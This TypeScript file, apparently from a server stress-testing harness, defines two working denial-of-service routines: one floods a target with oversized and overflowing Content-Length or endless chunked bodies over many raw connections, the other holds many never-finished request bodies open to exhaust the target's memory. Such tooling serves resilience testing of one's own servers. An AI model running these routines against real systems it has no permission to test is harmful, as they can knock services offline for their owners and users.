import type { Attack, Target } from './attack.ts';
import { leftOpen, RawConnection, signHead } from './raw-connection.ts';

const MEGABYTE = 1024 * 1024;
const PIECE = Buffer.alloc(64 * 1024, ' ');
const CHUNK = Buffer.concat([Buffer.from(`${PIECE.length.toString(16)}\r\n`), PIECE, Buffer.from('\r\n')]);

/** Bodies far over the limit: announced, announced and sent, in chunks without end. */
export const oversized = (async (target, { rounds = 0 }) => {
  const statuses = new Set<string>();
  let sentBytes = 0;
  const send = async (header: string, piece: Uint8Array): Promise<void> => {
    const connection = await RawConnection.open(target);
    if (connection === null) return;
    connection.send(`${signHead(target, header)}\r\n`);
    for (
      let piecesLeft = (64 * MEGABYTE) / PIECE.length;
      piecesLeft > 0 && !connection.closed;
      piecesLeft -= 1
    ) {
      await new Promise<unknown>((resolve) => {
        connection.socket.write(piece, resolve);
      });
    }
    await connection.closedWithin(2000);
    sentBytes += connection.socket.bytesWritten;
    for (const status of connection.statuses) statuses.add(status);
    if (!connection.closed) statuses.add('left open');
    await connection.destroy();
  };
  for (let round = 0; round < rounds; round += 1) {
    await Promise.all([
      ...Array.from({ length: 8 }, () => send(`Content-Length: ${64 * MEGABYTE}`, PIECE)),
      ...Array.from({ length: 8 }, () => send('Transfer-Encoding: chunked', CHUNK)),
      send('Content-Length: 18446744073709551615', PIECE),
      send('Content-Length: 99999999999999999999999', PIECE),
    ]);
  }
  return { statuses: [...statuses].sort(), sentMegabytes: Math.round(sentBytes / MEGABYTE) };
}) satisfies Attack;

/** As many as a victim has room for: 64 MiB. */
const ROOM = 64;

/** Bodies just below the limit that are never finished: each one lies in the memory of the victim. */
export const unfinished = (async (target: Target, { connections = 0, patienceMs = 0 }) => {
  const opened = await RawConnection.openMany(target, connections);
  const body = Buffer.alloc(MEGABYTE - 100, ' ');
  await Promise.all(
    opened.map(async (connection, index) => {
      const chunked = index % 2 === 0;
      connection.send(
        `${signHead(target, chunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${MEGABYTE}`)}\r\n`,
      );
      if (chunked) connection.send(`${MEGABYTE.toString(16)}\r\n`);
      await new Promise<unknown>((resolve) => {
        connection.socket.write(body, resolve);
      });
    }),
  );
  const heldAtTheEnd = await leftOpen(opened, ROOM, patienceMs);
  const sent = opened.filter(({ socket }) => socket.bytesWritten > MEGABYTE / 2).length;
  await Promise.all(opened.map((connection) => connection.destroy()));
  return { opened: opened.length, sent, heldAtTheEnd };
}) satisfies Attack;
